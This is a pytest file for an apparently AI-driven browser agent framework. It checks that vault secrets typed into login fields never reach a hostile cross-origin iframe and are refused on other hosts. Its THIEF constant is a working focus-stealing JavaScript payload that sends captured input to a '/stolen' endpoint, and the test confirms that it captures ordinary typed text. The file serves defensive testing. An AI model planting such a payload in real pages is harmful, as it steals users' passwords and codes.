"""A secret goes into its element in its frame, whoever takes the focus meanwhile: seen by what a hostile frame received."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from deskcrew.actions import builtin
from deskcrew.actions.action import Result, Scene
from deskcrew.actions.executor import execute
from deskcrew.actions.sandbox import Sandbox
from deskcrew.environments.browser.browser import BrowserDesktop
from deskcrew.environments.workspace import Workspace
from deskcrew.facts.events import Operation
from deskcrew.secrets.binding import Binding, Secret
from deskcrew.secrets.vault import Vault

from .conftest import Site

VALUE = "Kestrel-7-over-Lindau"
THIEF = """<input id=i><script>
for (const kind of ["focus", "mousemove"]) addEventListener(kind, () => i.focus(), true);
setInterval(() => { i.focus(); i.select() }, 1);
let told = ""; setInterval(() => { if (i.value !== told) fetch("/stolen?" + encodeURIComponent(told = i.value)) }, 5);
</script>"""
PAGE = """<label>Password <input id=p type=password></label><label>Code <input id=c></label><p id=out>nothing</p>
<iframe src='%s' width=200 height=60></iframe>
<script>for (const e of [p, c]) e.addEventListener("input", () => out.textContent = e.id + ": " + e.value.length)</script>"""


def put(browser: BrowserDesktop, folder: Path, site: Site, name: str, keys: str, **more: Any) -> Result:
    seen = browser.observe()
    found = next(control for control in seen.controls if control.name == name)
    secret = Secret("door", VALUE, Binding(hosts=(site.root.removeprefix("http://"),)))
    scene = Scene(Workspace(folder), Sandbox(folder), browser, seen, Vault((secret,)))
    params = {"keys": keys, **more}
    return execute(Operation(function="keyboard_input", control=found.label, params=params), builtin(), scene)


@pytest.mark.parametrize("name", ["Password", "Code"])
def test_a_frame_that_takes_the_focus_receives_nothing(
    browser: BrowserDesktop, site: Site, tmp_path: Path, name: str
) -> None:
    site.page("/stolen", "")
    site.page("/thief", THIEF)
    browser.open_url(site.page("/log-in", PAGE % f"{site.other}/thief"))
    before = len(site.begun)
    result = put(browser, tmp_path, site, name, "{{secret:door}}", clear=True)
    browser.wait(0.3)
    assert [request.url for request in site.begun[before:] if request.path == "/stolen"] == []
    assert result.ok, result.error
    assert f"{name[0].lower()}: {len(VALUE)}" in browser.observe().text
    assert VALUE not in result.text
    # The thief would have had it: what is no secret is typed, and goes to whatever has the focus.
    put(browser, tmp_path, site, name, "plain words that are typed")
    browser.wait(0.5)
    assert [request for request in site.begun[before:] if request.path == "/stolen"]


def test_a_secret_goes_in_beside_what_is_there(browser: BrowserDesktop, site: Site, tmp_path: Path) -> None:
    browser.open_url(site.page("/plain", PAGE % "about:blank"))
    assert put(browser, tmp_path, site, "Code", "a-").ok
    assert put(browser, tmp_path, site, "Code", "{{secret:door}}").ok
    assert f"c: {len(VALUE) + 2}" in browser.observe().text
    assert put(browser, tmp_path, site, "Code", "{{secret:door}}", clear=True).ok
    assert f"c: {len(VALUE)}" in browser.observe().text


def test_a_page_that_has_moved_to_another_origin_gets_nothing(browser: BrowserDesktop, site: Site, tmp_path: Path) -> None:
    browser.open_url(site.page("/here", PAGE % "about:blank"))
    secret = Secret("door", VALUE, Binding(hosts=("shop.example.org",)))
    seen = browser.observe()
    found = next(control for control in seen.controls if control.name == "Code")
    scene = Scene(Workspace(tmp_path), Sandbox(tmp_path), browser, seen, Vault((secret,)))
    operation = Operation(function="keyboard_input", control=found.label, params={"keys": "{{secret:door}}"})
    assert not execute(operation, builtin(), scene).ok
    assert "nothing" in browser.observe().text
